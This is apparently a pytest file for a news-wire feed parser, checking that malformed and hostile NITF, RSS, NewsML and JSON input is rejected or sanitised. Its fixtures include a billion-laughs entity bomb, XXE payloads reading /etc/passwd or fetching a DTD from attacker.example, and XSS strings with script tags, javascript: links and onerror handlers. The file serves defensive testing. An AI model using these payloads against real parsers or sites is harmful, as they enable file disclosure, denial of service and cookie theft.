"""Bad and hostile input: each case ends as a clear rejection or a sanitised item, never a raise."""

import json

from dateline.wire.parsers import MAX_PAYLOAD_BYTES, parse

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<nitf><body><body.head><hedline><hl1>&lol4;</hl1></hedline></body.head></body></nitf>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><body.head><hedline><hl1>leak &xxe;</hl1></hedline></body.head>
<body.content><p>&xxe;</p></body.content></body></nitf>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<newsItem guid="x"/>"""

RSS_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title></item></channel></rss>"""


def _only_rejection(result):
    assert result.items == []
    assert len(result.rejections) == 1
    return result.rejections[0].reason


def test_billion_laughs_is_rejected_not_expanded():
    reason = _only_rejection(parse(BILLION_LAUGHS, agency="x"))
    assert "ENTITY" in reason or "DTD" in reason


def test_xxe_never_reads_local_files():
    for payload, fmt in ((XXE, None), (XXE, "nitf"), (XXE_PARAMETER, None), (RSS_XXE, "rss")):
        result = parse(payload, agency="x", format=fmt)
        reason = _only_rejection(result)
        assert "XXE" in reason
        assert "root:" not in repr(result)


def test_malformed_xml_is_a_rejection():
    reason = _only_rejection(parse(b"<nitf><body><p>unclosed</body>", agency="x"))
    assert reason.startswith("malformed XML")


def test_truncated_json_is_a_rejection():
    reason = _only_rejection(parse(b'{"uri": "urn:x", "headline": "Half', agency="x"))
    assert reason.startswith("malformed JSON")


def test_huge_payload_is_rejected_before_parsing():
    huge = b"<nitf>" + b"a" * (MAX_PAYLOAD_BYTES + 1) + b"</nitf>"
    reason = _only_rejection(parse(huge, agency="x"))
    assert "exceeds" in reason and str(MAX_PAYLOAD_BYTES) in reason


def test_unknown_and_empty_payloads():
    assert "root element <RBNews>" in _only_rejection(parse(b"<RBNews><x/></RBNews>", agency="x"))
    assert _only_rejection(parse(b"", agency="x")) == "empty payload"
    assert "unrecognised format" in _only_rejection(parse(b"just some words", agency="x"))
    assert "unknown format" in _only_rejection(parse(b"{}", agency="x", format="telex"))


def test_non_bytes_payload_is_rejected():
    assert "must be bytes" in _only_rejection(parse("<nitf/>", agency="x"))  # type: ignore[arg-type]


def test_missing_fields_reject_the_item():
    result = parse(b'{"uri": "urn:empty"}', agency="x")
    assert _only_rejection(result) == "item has no headline, no body and no image"
    assert result.rejections[0].guid == "urn:empty"
    g2 = b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="g"><itemMeta/></newsItem>'
    assert "without itemMeta or contentMeta" in _only_rejection(parse(g2, agency="x"))


def test_wrong_declared_encoding_falls_back_with_a_note():
    latin1_labelled_utf8 = (
        '<?xml version="1.0" encoding="utf-8"?><nitf><body><body.head><hedline>'
        "<hl1>Fête à Montréal</hl1></hedline></body.head></body></nitf>"
    ).encode("cp1252")
    result = parse(latin1_labelled_utf8, agency="x")
    (item,) = result.items
    assert item.headline == "Fête à Montréal"
    assert any("cp1252" in note for note in result.notes)


def test_agency_html_is_sanitised():
    hostile = {
        "uri": "urn:x:1",
        "headline": "<b>Bold</b> headline<script>alert(1)</script>",
        "body_html": (
            '<p onclick="steal()">Safe text <a href="javascript:alert(1)">link</a></p>'
            '<script>document.cookie</script><iframe src="https://evil.example"></iframe>'
            '<p style="x" class="y"><img src=x onerror=alert(1)>End.</p>'
            '<a href="https://example.org/ok">ok link</a>'
        ),
    }
    (item,) = parse(json.dumps(hostile).encode(), agency="x").items
    for bad in ("<script", "onclick", "javascript:", "<iframe", "onerror", "style=", "<img"):
        assert bad not in item.body_html
    assert 'href="https://example.org/ok"' in item.body_html
    assert item.body_text.splitlines() == ["Safe text link", "End.", "ok link"]
    assert item.headline == "Bold headline"


def test_rest_of_a_feed_survives_a_bad_item():
    feed = [
        {"uri": "urn:a", "headline": "Good one", "body_text": "a"},
        {"uri": "urn:b", "headline": ["not", "a", "string"], "versioncreated": {"bad": 1}},
        "not even an object",
        {"uri": "urn:c", "headline": "Good two", "body_text": "c"},
    ]
    result = parse(json.dumps(feed).encode(), agency="x")
    assert [i.guid for i in result.items] == ["urn:a", "urn:c"]
    assert [r.position for r in result.rejections] == [1, 2]


def test_rss_with_a_broken_entry_keeps_the_others():
    rss = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>
    <item><title>First</title><guid>1</guid><description>one</description></item>
    <item><guid>2</guid></item>
    <item><title>Third</title><guid>3</guid><description>three</description></item>
    </channel></rss>"""
    result = parse(rss, agency="x")
    assert [i.headline for i in result.items] == ["First", "Third"]
    assert result.rejections[0].guid == "2"


def test_garbage_bytes_in_text_formats_do_not_crash():
    result = parse(b"\x16\x16\x01\xff\xfe\x00garbage", agency="x")
    assert result.format == "anpa"
    assert result.items == []
    assert "STX" in result.rejections[0].reason
